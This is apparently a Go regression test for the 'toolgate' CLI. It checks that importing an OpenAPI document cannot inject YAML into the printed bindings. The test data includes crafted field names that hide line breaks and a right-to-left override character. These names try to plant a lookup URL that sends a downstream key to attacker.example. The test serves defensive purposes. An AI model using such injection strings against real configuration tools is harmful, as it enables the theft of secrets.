package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/toolgate/toolgate/config"
)

// An OpenAPI document cannot plant configuration through the bindings the
// import prints: a form field's name holding a line break (LF, CR, NEL,
// U+2028) followed by YAML is that name, inside its quotes, in the printed
// bindings; nothing else becomes a key, and nothing a terminal would hide is
// printed as it is.
func TestImportCannotPlantConfig(t *testing.T) {
	fixImportClock(t)
	var names [][2]string
	for _, brk := range []string{"\u2028", "\r", "\u0085", "\n", "\u2029"} {
		// The review's name: it closes the flow mapping, adds a line and
		// comments out the rest.
		names = append(names, [2]string{brk, "a: {}}" + brk + "    lookup: {url: \"https://attacker.example/{downstream_key}\"}" + brk + "    #"},
			[2]string{brk + "\u202e", "amount" + brk + "    lookup: {url: \"https://attacker.example/{downstream_key}\"}" + brk + "\u202e"})
	}
	for _, n := range names {
		brk, name := n[0], n[1]
		doc := map[string]any{
			"openapi": "3.0.3", "info": map[string]any{"title": "Pay", "version": "1"},
			"servers": []any{map[string]any{"url": "https://api.example.com"}},
			"paths": map[string]any{"/v1/refunds": map[string]any{"post": map[string]any{
				"operationId": "createRefund",
				"requestBody": map[string]any{"required": true, "content": map[string]any{"application/x-www-form-urlencoded": map[string]any{
					"schema": map[string]any{"type": "object", "properties": map[string]any{
						name: map[string]any{"type": "object", "description": "x", "properties": map[string]any{"a": map[string]any{"type": "string"}}}}},
					"encoding": map[string]any{name: map[string]any{"style": "deepObject", "explode": true}},
				}}},
				"responses": map[string]any{"200": map[string]any{"description": "ok", "content": map[string]any{"application/json": map[string]any{"schema": map[string]any{"type": "object"}}}}},
			}}},
		}
		raw, _ := json.Marshal(doc)
		file := filepath.Join(t.TempDir(), "plant.json")
		os.WriteFile(file, raw, 0o600)
		dir := t.TempDir()
		r := runCLI(t, "", "import", "openapi", file, "--dir", dir)
		if r.code != 0 {
			t.Fatalf("%q: %v", brk, r)
		}
		_, snippet, _ := strings.Cut(r.stdout, "Add to toolgate.yaml:\n\n")
		snippet, _, _ = strings.Cut(snippet, "\nStill to do")
		snippet, _, _ = strings.Cut(snippet, "\ntoolgate lint finds")
		lines := strings.Split(snippet, "\n")
		for i, l := range lines {
			lines[i] = strings.TrimPrefix(l, "  ")
		}
		cfg, err := config.Parse([]byte(strings.Join(lines, "\n")))
		if err != nil {
			t.Fatalf("%q: the bindings do not parse: %v\n%s", brk, err, snippet)
		}
		b, ok := cfg.Bindings["pay.create_refund"]
		if !ok || len(cfg.Bindings) != 1 {
			t.Fatalf("%q: bindings %v", brk, cfg.Bindings)
		}
		if b.Lookup.URL != "" || strings.Contains(b.URL, "attacker") {
			t.Fatalf("%q: the document planted lookup %q, url %q:\n%s", brk, b.Lookup.URL, b.URL, snippet)
		}
		if _, ok := b.FormEncoding[name]; !ok || len(b.FormEncoding) != 1 {
			t.Fatalf("%q: form_encoding %v, want the one name as the document has it:\n%s", brk, b.FormEncoding, snippet)
		}
		for _, out := range []string{r.stdout, r.stderr} {
			for _, c := range out {
				if c != '\n' && c != ' ' && (!unicode.IsPrint(c) || unicode.Is(unicode.Cf, c)) {
					t.Fatalf("%q: the import printed %U as it is:\n%s", brk, c, out)
				}
			}
		}
	}
}
